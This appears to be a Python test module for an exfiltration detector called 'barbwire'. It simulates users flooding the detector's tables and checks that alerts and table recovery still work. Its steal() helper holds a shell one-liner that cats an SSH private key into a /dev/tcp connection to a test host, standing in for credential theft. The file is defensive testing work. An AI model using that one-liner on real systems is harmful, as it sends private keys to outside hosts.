# SPDX-License-Identifier: GPL-2.0-or-later
"""Users who fill a table, and thefts of others meanwhile."""

import os
import subprocess
import time

import harness
import tap
import varlink
from cases import Scene
from harness import program, touches
from net import HOST_V4
from tap import require, require_equal

# A cgroup of one user has an eighth of each table.
CROWD_PART = 8
# Tables are back at their level within this.
RELEASE_SECONDS = 5 * tap.SLOW
RELEASED = 64


def as_user(uid):
    return {"user": uid, "group": uid, "extra_groups": []}


class Crowd:
    """crowder.c in the thief's namespace; it goes on living until the with block ends."""

    def __init__(self, net, key, kind, n, directory=".", **kwargs):
        self.process = net.popen([program("robust-crowder"), key, kind, str(n), directory], stdin=subprocess.PIPE,
                                 stdout=subprocess.PIPE, text=True, **kwargs)

    def __enter__(self):
        require_equal(self.process.stdout.readline(), "ready\n", "crowder")
        return self

    def __exit__(self, *exception):
        self.process.kill()
        self.process.communicate()


def table(sock, name):
    """How many entries of a table live, and how many there may be."""
    with varlink.Connection(sock) as client:
        tables = client.call("io.barbwire.Barbwire.GetStatus")["tables"]
    return next((t["live"], t["max"]) for t in tables if t["name"] == name)


class CrowdedScene(Scene):
    def key(self, user=0):
        """Of a user whose home it is: class ssh-private-keys."""
        key, content = self.home.key()
        os.chown(key, user, user)
        return key, content

    def steal(self, what, user=0, seconds=harness.ALERT_TIMEOUT, named=True):
        """cat KEY | sender: the alert names the key, or, in the flooder's own share, at least its class."""
        key, content = self.key(user)
        script = 'cat "$1" | (exec 3<>/dev/tcp/$2/443; exec cat >&3)'
        kwargs = as_user(user) if user else {}
        began = time.monotonic()
        result = self.net.run(["/bin/bash", "-c", script, "bash", key, HOST_V4], **kwargs)
        require_equal(result.returncode, 0, f"{what}: the thief's exit status {result.stderr}")
        self.net.sink.wait_arrived(content)

        def fits(alert):
            about = touches(alert, key) if named else alert["process"]["uid"] == user and \
                "ssh-private-keys" in alert["classes"]
            return about and alert["destination"]["address"] == HOST_V4 and \
                (alert["process"]["comm"] == "cat" if named else alert["suspect"])
        self.bw.wait_alert(fits, f"{what}: cat KEY | sender", seconds)
        return time.monotonic() - began

    def losses(self):
        with varlink.Connection(self.socket) as client:
            losses = client.call("io.barbwire.Barbwire.GetStatus")["losses"]
        return {loss["cause"]: loss["count"] for loss in losses if loss["count"]}

    def wait_released(self, name, before, more=0):
        deadline = time.monotonic() + RELEASE_SECONDS
        while True:
            live, _ = table(self.socket, name)
            if live <= before + RELEASED + more:
                return
            require(time.monotonic() < deadline,
                    f"{name}: {live} entries live {RELEASE_SECONDS} s later, {before} before")
            time.sleep(0.1)
